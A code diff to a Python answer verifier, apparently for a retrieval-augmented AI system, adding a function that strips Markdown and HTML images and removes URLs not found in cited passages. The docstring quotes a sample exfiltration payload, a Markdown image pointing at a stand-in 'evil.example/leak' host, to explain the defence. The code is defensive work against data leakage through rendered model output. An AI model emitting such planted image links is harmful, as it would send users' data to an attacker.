@@ -8,7 +8,10 @@ Each check reports one problem once, and only where there is one:
 - quoted text must appear in the passages its sentence cites (in any passage when it cites none), after
   ignoring width, case, whitespace and punctuation;
 - every number must appear in the passages the answer cites; a number in a sentence that cites nothing
-  (already reported, or making no claim) must appear in some passage that was sent.
+  (already reported, or making no claim) must appear in some passage that was sent;
+- a Markdown or HTML image is always removed (a client that renders it would fetch its URL, and a planted
+  `![x](http://evil.example/leak?q=...)` would send data away); a link or bare URL stays only when the URL is
+  in a cited passage, otherwise it is removed (a link keeps its text) and reported.
 
 Pure functions of the answer and the passages' texts: no I/O.
 """
@@ -34,6 +37,7 @@ class Verification:
     invalid_citations: list[int] = field(default_factory=list)  # numbers naming no source sent (removed)
     unsupported_sentences: list[str] = field(default_factory=list)  # claims with no citation
     misquotes: list[str] = field(default_factory=list)  # quoted text not found in the passages it cites
+    removed_links: list[str] = field(default_factory=list)  # images, and URLs in no cited passage (removed)
     unsupported_numbers: list[str] = field(default_factory=list)  # numbers (as written) not in the sources
     warnings: list[str] = field(default_factory=list)  # one line a reader can act on per problem
 
@@ -89,9 +93,16 @@ def verify_answer(answer: str, passages: Mapping[int, str]) -> Verification:
     some passage that was sent. Numbers inside a misquote are reported with the quote.
     """
     text, cited, invalid, orphans = _remove_invalid_citations(answer, passages)
-    result = Verification(answer=text, cited=cited, invalid_citations=invalid)
+    text, removed_links = remove_links(text, [passages[n] for n in cited])
+    result = Verification(answer=text, cited=cited, invalid_citations=invalid, removed_links=removed_links)
     given = f"{len(passages)} {'was' if len(passages) == 1 else 'were'} given"
     result.warnings += [f"citation [{n}] refers to no source ({given}); removed" for n in invalid]
+    result.warnings += [
+        f"image removed: {_shorten(link)}"
+        if _IMAGE.match(link)
+        else f"link to {_shorten(link)} removed: not in a cited source"
+        for link in removed_links
+    ]
 
     spans = sentence_spans(text)
     cites_a_source: list[bool] = []
@@ -127,6 +138,39 @@ def verify_answer(answer: str, passages: Mapping[int, str]) -> Verification:
         result.unsupported_numbers.append(mention.text)
         result.warnings.append(f"number {mention.text} is not in {_where(cited if sentence_cites else [])}")
     return result
+
+
+_URL_CHARS = r"[^\s<>\"'\[\]()（）【】，。、；！？]+"
+_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)|!\[[^\]\n]*\]\[[^\]\n]*\]|<img\b[^>]*>", re.IGNORECASE)
+_LINKISH = re.compile(
+    rf"(?P<image>{_IMAGE.pattern})"
+    r"|\[(?P<label>[^\]\n]*)\]\(\s*<?(?P<target>[^)\s>]*)>?(?:\s+[^)\n]*)?\)"
+    r"|<(?P<auto>(?:https?|ftp)://[^>\s]+)>"
+    rf"|(?P<bare>(?:(?:https?|ftp)://|www\.){_URL_CHARS}(?<![.,;:!?]))",
+    re.IGNORECASE,
+)
+
+
+def remove_links(answer: str, cited: list[str]) -> tuple[str, list[str]]:
+    """The answer without images, and without links and URLs that no cited passage holds (a link keeps its
+    text); and what was removed, as written, in order."""
+    removed: list[str] = []
+
+    def allowed(url: str) -> bool:
+        url = url.rstrip(".,;:!?")
+        return bool(url) and any(url in passage for passage in cited)
+
+    def replace_one(m: re.Match[str]) -> str:
+        if m["image"] is None:
+            url = m["target"] if m["target"] is not None else m["auto"] or m["bare"]
+            if allowed(url):
+                return m[0]
+        removed.append(m[0])
+        if m["label"] is not None:  # a link keeps its words; "[1](url)" stays a citation marker
+            return f"[{m['label']}]" if m["label"].strip().isdigit() else m["label"]
+        return ""
+
+    return _LINKISH.sub(replace_one, answer), removed
 
 
 def _remove_invalid_citations(answer: str, passages: Mapping[int, str]) -> tuple[str, list[int], list[int], list[int]]:
